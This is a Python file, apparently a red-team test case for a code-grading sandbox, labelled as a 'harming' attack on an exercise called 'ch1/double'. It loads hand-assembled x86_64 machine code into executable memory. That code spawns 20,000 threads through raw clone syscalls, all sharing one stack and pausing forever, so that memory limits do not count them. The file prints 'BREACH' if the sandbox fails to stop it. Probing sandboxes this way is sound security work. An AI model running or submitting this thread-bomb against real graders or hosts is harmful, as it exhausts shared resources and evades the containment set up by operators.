# /// attack
# kind = "harming"
# exercise = "ch1/double"
# verdicts = ["error", "crashed", "timeout"]
# reason = "Makes threads by machine code, all on one stack, so that no limit on memory counts them; the same eyes do."
# ///
import ctypes
import mmap
import os

MOST = 20_000
# Calls clone with the flags of a thread MOST times; each child calls pause for ever.
CODE = bytes.fromhex(
    "53"              # push rbx
    f"bb{MOST.to_bytes(4, 'little').hex()}"  # mov ebx, MOST
    "4989f8"          # mov r8, rdi        the stack
    "b838000000"      # again: mov eax, 56
    "bf000f0500"      # mov edi, 0x50f00
    "4c89c6"          # mov rsi, r8
    "31d2"            # xor edx, edx
    "0f05"            # syscall
    "85c0"            # test eax, eax
    "740a"            # jz child
    "7804"            # js done
    "ffcb"            # dec ebx
    "75e5"            # jnz again
    "89d8"            # done: mov eax, ebx
    "5bc3"            # pop rbx; ret
    "b822000000"      # child: mov eax, 34
    "0f05"            # syscall
    "ebf7"            # jmp child
)
code = mmap.mmap(-1, 8192, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)


def double(value):
    if os.uname().machine != "x86_64":
        raise RuntimeError("this is machine code of another machine")
    code[: len(CODE)] = CODE
    start = ctypes.addressof(ctypes.c_char.from_buffer(code))
    left = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(start)(start + 8192 - 64)
    if left == 0:
        print("BREACH: threads", MOST, flush=True)
    raise RuntimeError(f"{MOST - left} threads")
